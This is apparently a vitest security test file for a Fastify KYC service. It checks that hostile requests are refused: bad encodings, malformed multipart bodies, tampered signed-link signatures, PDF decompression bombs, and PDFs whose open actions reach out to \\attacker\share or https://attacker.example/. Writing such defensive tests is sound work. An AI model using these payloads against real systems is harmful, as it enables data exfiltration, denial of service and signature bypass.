import type { InjectOptions } from 'fastify';
import { beforeAll, describe, expect, it } from 'vitest';
import { passingSelfie } from '../../src/providers/cashfree-simulator/test-images.js';
import { KeyRing } from '../../src/lib/crypto/index.js';
import { authed, registerAndLogin, TEST_SECRETS, useTestApp } from '../helpers/app.js';
import { sandboxProfile } from '../helpers/kyc.js';
import { imagePart, multipart } from '../helpers/multipart.js';
import { objectFlood, objectStreamBomb, pdfWith } from '../modules/documents/hostile-pdfs.js';

// Attacks on request handling, one row each: what is sent, and the answer it must get. Every answer is
// problem+json; where a field is to blame, the answer names it.

const ctx = useTestApp();

interface Fixture {
  token: string;
  documentId: string;
  expires: string;
  signature: string;
  selfie: Buffer;
}

interface Attack {
  attack: string;
  request: (fixture: Fixture) => InjectOptions | Promise<InjectOptions>;
  status: number;
  code: string;
  field?: string;
  /** The code of the field's own problem, where it says more than `code`. */
  fieldCode?: string;
}

const json = (payload: string, headers: Record<string, string> = {}): InjectOptions => ({
  method: 'POST',
  url: '/v1/auth/login',
  payload,
  headers: { 'content-type': 'application/json', ...headers },
});
const LOGIN = JSON.stringify({ email: 'someone@example.com', password: 'not the password' });

const selfieUpload = (fixture: Fixture, body: { payload: Buffer; headers: Record<string, string> }) => ({
  method: 'POST' as const,
  url: '/v1/image/liveliness_check',
  payload: body.payload,
  headers: { ...body.headers, authorization: `Bearer ${fixture.token}` },
});
const rawMultipart = (fixture: Fixture, payload: string) =>
  selfieUpload(fixture, {
    payload: Buffer.from(payload),
    headers: { 'content-type': 'multipart/form-data; boundary=zzz' },
  });

const documentLink = (fixture: Fixture, expires: string, signature: string): InjectOptions => ({
  method: 'GET',
  url: `/v1/documents/${fixture.documentId}?expires=${encodeURIComponent(expires)}&signature=${encodeURIComponent(signature)}`,
});
const base64Alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
/** The same bytes spelled differently: the last character carries two unused bits. */
const sameBytesOtherSpelling = (signature: string) =>
  signature.slice(0, -1) + base64Alphabet[base64Alphabet.indexOf(signature.at(-1)!) ^ 1];

const MASTER_COPY = '/dematDetails/0/clientMasterCopy';
/** The profile's demat entry carrying `pdf` as its client master copy. */
const masterCopyUpload = (fixture: Fixture, pdf: Buffer): InjectOptions => ({
  method: 'PUT',
  url: '/v1/data/update_data',
  payload: {
    dematDetails: [
      {
        depository: 'CDSL',
        dpID: '12081600',
        clientID: '00012345',
        primary: true,
        clientMasterCopy: pdf.toString('base64'),
      },
    ],
  },
  headers: { authorization: `Bearer ${fixture.token}` },
});
const pdfAttack = (
  attack: string,
  pdf: () => Buffer | Promise<Buffer>,
  status: number,
  code: string,
  fieldCode: string,
): Attack => ({
  attack,
  request: async (fixture) => masterCopyUpload(fixture, await pdf()),
  status,
  code,
  field: MASTER_COPY,
  fieldCode,
});

const ATTACKS: Attack[] = [
  {
    attack: 'text/plain body on a JSON route',
    request: () => json(LOGIN, { 'content-type': 'text/plain' }),
    status: 415,
    code: 'unsupported_media_type',
  },
  {
    attack: 'gzip-encoded body',
    request: () => json(LOGIN, { 'content-encoding': 'gzip' }),
    status: 415,
    code: 'unsupported_media_type',
    field: '/',
  },
  {
    attack: 'deflate and chained encodings',
    request: () => json(LOGIN, { 'content-encoding': 'deflate, gzip' }),
    status: 415,
    code: 'unsupported_media_type',
  },
  {
    attack: 'broken JSON body on a DELETE',
    request: (fixture) => ({
      method: 'DELETE',
      url: '/v1/consents/digilocker_fetch',
      payload: '{"reason":',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${fixture.token}` },
    }),
    status: 400,
    code: 'invalid_json',
  },
  {
    attack: 'gzip-encoded body on a DELETE',
    request: (fixture) => ({
      method: 'DELETE',
      url: '/v1/consents/digilocker_fetch',
      payload: '{}',
      headers: {
        'content-type': 'application/json',
        'content-encoding': 'gzip',
        authorization: `Bearer ${fixture.token}`,
      },
    }),
    status: 415,
    code: 'unsupported_media_type',
  },
  {
    attack: 'two image parts in one liveliness upload',
    request: (fixture) =>
      selfieUpload(fixture, multipart([imagePart(fixture.selfie), imagePart(fixture.selfie)])),
    status: 400,
    code: 'validation_failed',
    field: '/image',
  },
  {
    attack: 'multipart body that is not multipart',
    request: (fixture) => rawMultipart(fixture, '{"image":"x"}'),
    status: 400,
    code: 'validation_failed',
    field: '/image',
  },
  {
    attack: 'multipart body cut off after the first boundary',
    request: (fixture) => rawMultipart(fixture, '--zzz\r\n'),
    status: 400,
    code: 'validation_failed',
    field: '/image',
  },
  {
    attack: 'path segment over the router limit',
    request: () => ({ method: 'GET', url: `/v1/documents/${'a'.repeat(300)}` }),
    status: 414,
    code: 'uri_too_long',
  },
  {
    attack: 'broken percent-encoding in the path',
    request: () => ({ method: 'GET', url: '/v1/documents/%E0%A4%A' }),
    status: 400,
    code: 'bad_request',
  },
  {
    attack: 'signed link with a padded signature',
    request: (f) => documentLink(f, f.expires, `${f.signature}=`),
    status: 403,
    code: 'forbidden',
  },
  {
    attack: 'signed link with characters outside base64url appended',
    request: (f) => documentLink(f, f.expires, `${f.signature}!!`),
    status: 403,
    code: 'forbidden',
  },
  {
    attack: 'signed link in standard base64',
    request: (f) =>
      documentLink(f, f.expires, Buffer.from(f.signature, 'base64url').toString('base64').replace(/=+$/, '')),
    status: 403,
    code: 'forbidden',
  },
  {
    attack: 'signed link whose last character differs only in unused bits',
    request: (f) => documentLink(f, f.expires, sameBytesOtherSpelling(f.signature)),
    status: 403,
    code: 'forbidden',
  },
  {
    attack: 'signed link with a leading zero on the expiry',
    request: (f) => documentLink(f, `0${f.expires}`, f.signature),
    status: 403,
    code: 'forbidden',
  },
  pdfAttack(
    'PDF object stream inflating to 1 GB',
    () => objectStreamBomb(1024 ** 3),
    400,
    'validation_failed',
    'document_too_complex',
  ),
  pdfAttack(
    'PDF of 120,000 tiny objects',
    () => objectFlood(120_000),
    400,
    'validation_failed',
    'document_too_complex',
  ),
  pdfAttack(
    'PDF opening a UNC path (GoToR)',
    () => pdfWith('/OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>'),
    415,
    'unsupported_media_type',
    'pdf_external_action',
  ),
  pdfAttack(
    'PDF submitting a form to a URL',
    () => pdfWith('/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >>'),
    415,
    'unsupported_media_type',
    'pdf_external_action',
  ),
  pdfAttack(
    'PDF with a #-escaped /URI action',
    () => pdfWith('/OpenAction << /S /#55RI /URI (https://attacker.example/) >>'),
    415,
    'unsupported_media_type',
    'pdf_external_action',
  ),
  pdfAttack(
    'PDF running a named action on open',
    () => pdfWith('/OpenAction << /S /Named /N /SaveAs >>'),
    415,
    'unsupported_media_type',
    'pdf_active_content',
  ),
];

describe('hostile requests', () => {
  const fixture = {} as Fixture;

  beforeAll(async () => {
    const user = await registerAndLogin(ctx.app);
    fixture.token = user.token;
    await authed(ctx.app, user.token, {
      method: 'POST',
      url: '/v1/consents',
      payload: { purpose: 'kyc_verification', noticeVersion: '2026-11' },
    });
    const saved = await authed(ctx.app, user.token, {
      method: 'PUT',
      url: '/v1/data/update_data',
      payload: await sandboxProfile(),
    });
    expect(saved.statusCode).toBe(200);
    const details = await authed(ctx.app, user.token, { method: 'GET', url: '/v1/user/getDetails' });
    const link = new URL(details.json().data.dematDetails[0].clientMasterCopy.url, 'http://localhost');
    fixture.documentId = link.pathname.split('/').at(-1)!;
    // A link of our own signing whose signature has a character that differs between base64 and base64url.
    const keyRing = new KeyRing({ current: TEST_SECRETS.KYC_SECRET });
    for (
      let expires = Math.floor(Date.now() / 1000) + 600;
      !/[-_]/.test(fixture.signature ?? '');
      expires++
    ) {
      fixture.expires = String(expires);
      fixture.signature = keyRing.signUrlToken(`document:${fixture.documentId}`, expires);
    }
    fixture.selfie = await passingSelfie(7);
  });

  it('serves the genuine signed link, so the refusals below are about their spelling', async () => {
    const genuine = await ctx.app.inject(documentLink(fixture, fixture.expires, fixture.signature));
    expect(genuine.statusCode).toBe(200);
  });

  it('ignores a Content-Encoding on a GET, whose body is never read', async () => {
    const response = await authed(ctx.app, fixture.token, {
      method: 'GET',
      url: '/v1/user/getDetails',
      headers: { 'content-encoding': 'gzip' },
    });
    expect(response.statusCode, response.body.slice(0, 300)).toBe(200);
  });

  it.each(ATTACKS)('$attack → $status $code', async ({ request, status, code, field, fieldCode }) => {
    const response = await ctx.app.inject(await request(fixture));
    expect(response.statusCode, response.body.slice(0, 300)).toBe(status);
    expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(response.json()).toMatchObject({ code, status, success: false });
    if (field) expect(response.json().errors.map((error: { field: string }) => error.field)).toContain(field);
    if (fieldCode)
      expect(response.json().errors).toContainEqual(expect.objectContaining({ field, code: fieldCode }));
  });
});
